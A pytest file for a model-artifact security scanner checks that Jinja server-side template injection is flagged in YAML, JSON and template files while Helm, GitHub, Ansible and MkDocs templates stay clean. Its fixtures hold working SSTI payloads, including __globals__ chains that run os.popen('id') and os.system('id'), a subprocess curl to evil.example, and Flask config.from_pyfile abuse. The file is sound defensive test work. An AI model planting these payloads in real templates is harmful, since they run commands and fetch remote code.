"""Jinja templates outside the keys model loaders render (LW-MODEL-040): a YAML config's ``chat_template``, a
``prompt_template`` or any other string with Jinja markup in a JSON or YAML config, ``.jinja2``, ``.template`` and
``.tmpl`` files. Serving and training applications render these; modelaudit's fixtures ``yaml/malicious_config.yaml``
and ``malicious_subprocess.template`` (promptfoo/modelaudit tests/assets/samples/jinja2) were clean before.

Outside the loaders' own keys a string that does not parse as Jinja is no template: it says nothing (Helm and Go
templates, GitHub expressions), so configs of other tools stay clean.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from loopwarden.checks.models.scanner import scan_paths
from loopwarden.domain import TargetResult, Verdict

SSTI = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
SSTI_ITEM = "{{ config['__class__'].__init__.__globals__['os'].system('id') }}"
IMPORT = "{{ __import__('subprocess').call(['curl', 'http://evil.example/p.sh']) }}"


def _scan(tmp_path: Path, name: str, text: str) -> TargetResult:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return scan_paths([str(path)], jobs=1).targets[0]


def _caught(res: TargetResult) -> None:
    assert any(f.rule_id == "LW-MODEL-040" for f in res.findings), res


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("serving.yaml", f'chat_template: "{SSTI}"\nmodel_name: m\n'),
        ("serving.yaml", f'deploy_script: "{IMPORT}"\n'),
        ("config.yml", f"prompts:\n  - name: a\n    template: |\n      {SSTI_ITEM}\n"),
        ("MLmodel", f'flavors:\n  python_function:\n    prompt: "{SSTI}"\n'),
        ("generation_config.json", json.dumps({"prompt_template": SSTI})),
        ("config.json", json.dumps({"serving": {"templates": [{"text": SSTI_ITEM}]}})),
        # Jinja markup spelled with JSON escapes: the parsed string is what a renderer sees
        (
            "config.json",
            json.dumps({"prompt_template": SSTI}).replace("{", "\\u007b").replace("\\u007b", "{", 1),
        ),
        ("prompt.template", f"System: be helpful\n{SSTI}\n"),
        ("prompt.tmpl", IMPORT),
        ("chat.jinja2", SSTI),
    ],
)
def test_templates_in_configs_and_template_files_are_judged(tmp_path: Path, name: str, text: str) -> None:
    _caught(_scan(tmp_path, name, text))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("values.yaml", "image: '{{ .Values.image.repository }}:{{ .Chart.AppVersion }}'\n"),  # Helm / Go
        ("workflow.yml", "run: echo ${{ secrets.TOKEN }} ${{ github.sha }}\n"),
        ("playbook.yaml", "- debug:\n    msg: '{{ item.name }} {{ item.value | default(1) }}'\n"),
        (
            "config.json",
            json.dumps({"prompt_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}),
        ),
        ("config.json", json.dumps({"note": "use {{ and }} for placeholders", "x": "{% broken"})),
        ("prompt.template", "Question: {question}\nAnswer: {{ answer | trim }}\n"),
        ("readme.template", "no markup at all"),
        # a tokenizer vocabulary holding Jinja-like tokens is not walked
        (
            "tokenizer.json",
            json.dumps({"model": {"vocab": {SSTI: 1, "{{": 2}}, "added_tokens": [{"content": SSTI}]}),
        ),
    ],
)
def test_ordinary_configs_stay_clean(tmp_path: Path, name: str, text: str) -> None:
    res = _scan(tmp_path, name, text)
    assert res.verdict is Verdict.CLEAN, res


# MkDocs (mkdocs-macros) renders strings of mkdocs.yml with its site configuration as ``config``: printing or
# testing one of its settings there is no use of Flask's config object
MKDOCS_SETTINGS = [
    "{{ config.site_name }}",
    "{{ config.extra.version }}",
    "Copyright {{ config.copyright }} - {{ config['site_author'] ~ ' and others' }}",
    "{% if config.extra.analytics %}{{ config.extra.analytics.provider }}{% endif %}",
    "{{ 'dark' if config.theme.palette.scheme == 'slate' else 'light' }}",
    "{{ not config.extra.draft }}",
]


@pytest.mark.parametrize("value", MKDOCS_SETTINGS)
@pytest.mark.parametrize("name", ["mkdocs.yml", "config.json"])
def test_a_printed_setting_of_config_in_a_config_is_clean(tmp_path: Path, name: str, value: str) -> None:
    text = f"site_name: docs\nextra:\n  footer: {json.dumps(value)}\n" if name.endswith(".yml") else None
    res = _scan(tmp_path, name, text or json.dumps({"site_name": "docs", "footer": value}))
    assert res.verdict is Verdict.CLEAN, res


@pytest.mark.parametrize(
    "value",
    [
        "{{ config }}",  # the whole object
        "{{ config.from_pyfile('settings.cfg') }}",  # Flask's Config executes the file
        "{{ config.from_object('os') }}",
        "{{ (config.from_envvar)('X') }}",
        "{% set load = config.from_pyfile %}{{ load('s.cfg') }}",  # handed on, then called
        "{{ dict(f=config.from_pyfile).f('s.cfg') }}",
        "{{ config|list }}",  # filtered
        "{{ config.extra|attr('x') }}",
        "{{ config.from_pyfile is defined }}",  # tested rather than read
        "{{ config.items() }}",
        "{{ config['__class__'] }}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{{ request.args.cmd }}",  # only config is MkDocs data
        "{{ session.user }}",
    ],
)
def test_config_used_beyond_reading_a_setting_stays_reported(tmp_path: Path, value: str) -> None:
    _caught(_scan(tmp_path, "mkdocs.yml", f"extra:\n  footer: {json.dumps(value)}\n"))


@pytest.mark.parametrize("value", MKDOCS_SETTINGS[:2])
def test_config_in_a_chat_template_stays_reported(tmp_path: Path, value: str) -> None:
    # a chat template has no MkDocs renderer: any use of config there is judged as before
    res = _scan(tmp_path, "tokenizer_config.json", json.dumps({"chat_template": value}))
    assert any("uses the global 'config'" in f.message for f in res.findings), res
